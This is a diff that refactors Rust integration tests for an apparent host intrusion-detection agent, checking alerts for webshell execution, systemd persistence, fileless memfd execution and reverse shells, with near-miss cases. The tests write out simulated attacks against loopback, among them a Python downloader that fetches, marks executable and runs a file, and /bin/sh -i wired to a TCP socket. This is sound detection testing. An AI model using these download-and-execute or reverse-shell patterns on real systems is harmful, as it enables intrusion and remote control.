@@ -6,13 +6,15 @@ mod common;
 
 use std::fs;
 use std::io::{Read, Write};
-use std::net::{TcpListener, TcpStream};
+use std::net::TcpStream;
 use std::os::unix::fs::symlink;
 use std::process::{Command, Stdio};
 use std::time::Duration;
 
-use common::scenario::{Attacker, CONFIG, Cleanup, alerts, evidence};
-use common::{Agent, get, pid_of, privileged, sh, unique};
+use common::scenario::{
+    Attacker, CONFIG, Cleanup, alerts, downloader, evidence, is_alert, serve_once, shell_alerts,
+};
+use common::{Agent, action, alerts_for, get, pid_of, privileged, rule_ids, sh, unique};
 use serde_json::Value;
 use sha2::Digest;
 
@@ -61,10 +63,13 @@ s.handle_request()
     conn.read_to_string(&mut reply).unwrap();
     assert!(reply.contains(&marker), "{reply}");
     assert!(child.wait().unwrap().success());
+    // Near miss: the same shell command from this test (no web server).
+    let plain = sh(&format!("id > /dev/null; echo {marker}-plain > /dev/null"));
     agent.wait_for("the webshell alert", |r| {
-        r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-webshell-exec"
-            && get(r, "process.parent.pid") == server_pid
+        is_alert(r, "rg-webshell-exec") && get(r, "process.parent.pid") == server_pid
+    });
+    agent.wait_for("the near miss's exit", |r| {
+        action(r) == "exit" && pid_of(r) == u64::from(plain)
     });
     let (status, records, stderr) = agent.stop();
     assert!(status.success(), "{stderr}");
@@ -97,13 +102,8 @@ s.handle_request()
     );
     let ev0 = &get(a, "rand_guard.alert.evidence")[0];
     assert_eq!(get(ev0, "process.executable"), nginx.to_str().unwrap());
-
-    // Near miss: the same shell command from this test (no web server).
-    let plain = sh(&format!("id > /dev/null; echo {marker}-plain > /dev/null"));
     assert!(
-        records
-            .iter()
-            .all(|r| !(r["record_type"] == "alert" && pid_of(r) == u64::from(plain))),
+        alerts_for(&records, plain).is_empty(),
         "no alert for a shell outside a web server"
     );
 }
@@ -156,9 +156,7 @@ fn systemd_unit_written_then_enabled() {
         .status()
         .unwrap();
     agent.wait_for("the link alert", |r| {
-        r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-persist-systemd-enable"
-            && pid_of(r) == u64::from(link_b)
+        is_alert(r, "rg-persist-systemd-enable") && pid_of(r) == u64::from(link_b)
     });
     let (status, records, stderr) = agent.stop();
     assert!(status.success(), "{stderr}");
@@ -195,12 +193,10 @@ fn systemd_unit_written_then_enabled() {
     );
     assert_eq!(get(mine[1], "event.severity"), 99);
     // C: the single-write alert only.
-    let c_alerts: Vec<&str> = records
-        .iter()
-        .filter(|r| r["record_type"] == "alert" && pid_of(r) == u64::from(write_c))
-        .map(|r| get(r, "rule.id").as_str().unwrap())
-        .collect();
-    assert_eq!(c_alerts, ["rg-persist-systemd-unit"]);
+    assert_eq!(
+        rule_ids(&alerts_for(&records, write_c)),
+        ["rg-persist-systemd-unit"]
+    );
 }
 
 #[test]
@@ -212,27 +208,13 @@ fn downloaded_file_executed_from_tmp_is_critical() {
     let copied = format!("/tmp/{}", unique("copy"));
     let unrun = format!("/tmp/{}", unique("unrun"));
     let _guard = Cleanup(vec![payload.clone(), copied.clone(), unrun.clone()]);
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let serve = std::thread::spawn(move || {
-        let (mut s, _) = listener.accept().unwrap();
-        s.write_all(&fs::read("/bin/true").unwrap()).unwrap();
-    });
+    let (port, serve) = serve_once(fs::read("/bin/true").unwrap());
     let agent = Agent::start(CONFIG);
     // A "downloader": connect, save what comes, make it executable, run it.
-    let script = format!(
-        r#"
-import os, socket
-s = socket.create_connection(("127.0.0.1", {port}))
-data = b""
-while True:
-    chunk = s.recv(65536)
-    if not chunk: break
-    data += chunk
-with open("{payload}", "wb") as f: f.write(data)
-os.chmod("{payload}", 0o755)
-os.execv("{payload}", ["{payload}"])
-"#
+    let script = downloader(
+        port,
+        &payload,
+        &format!("os.execv(\"{payload}\", [\"{payload}\"])"),
     );
     let mut py = Command::new(PYTHON).args(["-c", &script]).spawn().unwrap();
     let py_pid = py.id();
@@ -243,9 +225,7 @@ os.execv("{payload}", ["{payload}"])
     // Near miss: written, never run.
     sh(&format!("cp /bin/true {unrun}; /bin/true"));
     agent.wait_for("the copy's alert", |r| {
-        r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-drop-exec"
-            && pid_of(r) == u64::from(cp_pid)
+        is_alert(r, "rg-drop-exec") && pid_of(r) == u64::from(cp_pid)
     });
     let (status, records, stderr) = agent.stop();
     assert!(status.success(), "{stderr}");
@@ -318,45 +298,30 @@ os.execv("/proc/self/fd/%d" % fd, ["rg-payload"])
     let mut py = Command::new(PYTHON).args(["-c", script]).spawn().unwrap();
     let pid = py.id();
     assert!(py.wait().unwrap().success());
+    // Near miss: /bin/true run from its file.
+    let plain = sh("exec /bin/true");
     agent.wait_for("the fileless alert", |r| {
-        r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-fileless-exec"
-            && pid_of(r) == u64::from(pid)
+        is_alert(r, "rg-fileless-exec") && pid_of(r) == u64::from(pid)
+    });
+    agent.wait_for("the near miss's exit", |r| {
+        action(r) == "exit" && pid_of(r) == u64::from(plain)
     });
     std::thread::sleep(Duration::from_millis(100));
     let (status, records, stderr) = agent.stop();
     assert!(status.success(), "{stderr}");
-    let mine: Vec<&Value> = records
-        .iter()
-        .filter(|r| r["record_type"] == "alert" && pid_of(r) == u64::from(pid))
-        .collect();
+    let mine = alerts_for(&records, pid);
     assert_eq!(mine.len(), 1, "{mine:#?}");
     assert_eq!(get(mine[0], "rand_guard.process.exe"), "memfd:rg-payload");
     assert_eq!(
         get(mine[0], "message").as_str().unwrap(),
         format!("Program run from memory (memfd:rg-payload) as /proc/self/fd/3 by pid {pid}")
     );
-    // Near miss: python running /bin/true from its file.
-    let plain = sh("exec /bin/true");
-    assert!(
-        records
-            .iter()
-            .all(|r| !(r["record_type"] == "alert" && pid_of(r) == u64::from(plain)))
-    );
+    assert!(alerts_for(&records, plain).is_empty());
 }
 
-/// The rg-reverse-shell alerts whose stdio-socket evidence points at `port`.
-fn shell_alerts(records: &[Value], port: u16) -> Vec<&Value> {
-    alerts(records, "rg-reverse-shell")
-        .into_iter()
-        .filter(|a| {
-            get(a, "rand_guard.alert.evidence")
-                .as_array()
-                .unwrap()
-                .iter()
-                .any(|e| get(e, "destination.port") == port)
-        })
-        .collect()
+/// A copy of `conn` for a child's stdin or stdout.
+fn on_socket(conn: &TcpStream) -> Stdio {
+    Stdio::from(std::os::fd::OwnedFd::from(conn.try_clone().unwrap()))
 }
 
 /// The usual python one-liner: connect to loopback `port`, dup2 the
@@ -418,12 +383,8 @@ fn reverse_shells_are_critical() {
     let conn = TcpStream::connect(("127.0.0.1", ex.port)).unwrap();
     let mut c = Command::new("/bin/sh")
         .arg("-i")
-        .stdin(Stdio::from(std::os::fd::OwnedFd::from(
-            conn.try_clone().unwrap(),
-        )))
-        .stdout(Stdio::from(std::os::fd::OwnedFd::from(
-            conn.try_clone().unwrap(),
-        )))
+        .stdin(on_socket(&conn))
+        .stdout(on_socket(&conn))
         .stderr(Stdio::null())
         .spawn()
         .unwrap();
@@ -433,9 +394,7 @@ fn reverse_shells_are_critical() {
     c.wait().unwrap();
 
     agent.wait_for("the exec'd shell's alert", |r| {
-        r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-reverse-shell"
-            && pid_of(r) == u64::from(ex_pid)
+        is_alert(r, "rg-reverse-shell") && pid_of(r) == u64::from(ex_pid)
     });
     std::thread::sleep(Duration::from_millis(200));
     let (status, records, stderr) = agent.stop();
@@ -548,12 +507,8 @@ fn near_misses_do_not_raise_reverse_shell() {
     let srv = Attacker::new();
     let conn = TcpStream::connect(("127.0.0.1", srv.port)).unwrap();
     let mut c = Command::new("/bin/cat")
-        .stdin(Stdio::from(std::os::fd::OwnedFd::from(
-            conn.try_clone().unwrap(),
-        )))
-        .stdout(Stdio::from(std::os::fd::OwnedFd::from(
-            conn.try_clone().unwrap(),
-        )))
+        .stdin(on_socket(&conn))
+        .stdout(on_socket(&conn))
         .spawn()
         .unwrap();
     drop(conn);
@@ -568,9 +523,10 @@ fn near_misses_do_not_raise_reverse_shell() {
     let mut c = Command::new("/bin/sh")
         .args(["-c", &format!("echo {marker}")])
         .stdin(Stdio::null())
-        .stdout(Stdio::from(std::os::fd::OwnedFd::from(conn)))
+        .stdout(on_socket(&conn))
         .spawn()
         .unwrap();
+    drop(conn);
     let sh_pid = c.id();
     let (mut accepted, _) = out.listener.accept().unwrap();
     let mut got = String::new();
@@ -597,10 +553,7 @@ fn near_misses_do_not_raise_reverse_shell() {
     let (status, records, stderr) = agent.stop();
     assert!(status.success(), "{stderr}");
     for pid in [cat_pid, sh_pid, py_pid] {
-        let mine: Vec<&Value> = records
-            .iter()
-            .filter(|r| r["record_type"] == "alert" && pid_of(r) == u64::from(pid))
-            .collect();
+        let mine = alerts_for(&records, pid);
         assert!(mine.is_empty(), "{mine:#?}");
     }
     assert!(shell_alerts(&records, srv.port).is_empty());
@@ -653,12 +606,11 @@ fn copies_and_hard_links_of_an_interpreter_are_still_reverse_shells() {
     let conn = TcpStream::connect(("127.0.0.1", near.port)).unwrap();
     let mut c = Command::new(&other)
         .arg("0.3")
-        .stdin(Stdio::from(std::os::fd::OwnedFd::from(
-            conn.try_clone().unwrap(),
-        )))
-        .stdout(Stdio::from(std::os::fd::OwnedFd::from(conn)))
+        .stdin(on_socket(&conn))
+        .stdout(on_socket(&conn))
         .spawn()
         .unwrap();
+    drop(conn);
     let other_pid = c.id();
     c.wait().unwrap();
     agent.wait_for("the near miss's stdio-socket event", |r| {
@@ -666,9 +618,7 @@ fn copies_and_hard_links_of_an_interpreter_are_still_reverse_shells() {
     });
     let link_pid = shells[1].0;
     agent.wait_for("the hard link's alert", |r| {
-        r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-reverse-shell"
-            && pid_of(r) == u64::from(link_pid)
+        is_alert(r, "rg-reverse-shell") && pid_of(r) == u64::from(link_pid)
     });
     let (status, records, stderr) = agent.stop();
     assert!(status.success(), "{stderr}");
@@ -693,9 +643,9 @@ fn copies_and_hard_links_of_an_interpreter_are_still_reverse_shells() {
     }
     assert!(shell_alerts(&records, near.port).is_empty());
     assert!(
-        !records.iter().any(|r| r["record_type"] == "alert"
-            && get(r, "rule.id") == "rg-reverse-shell"
-            && pid_of(r) == u64::from(other_pid)),
+        !records
+            .iter()
+            .any(|r| is_alert(r, "rg-reverse-shell") && pid_of(r) == u64::from(other_pid)),
         "the near miss alerted"
     );
 }
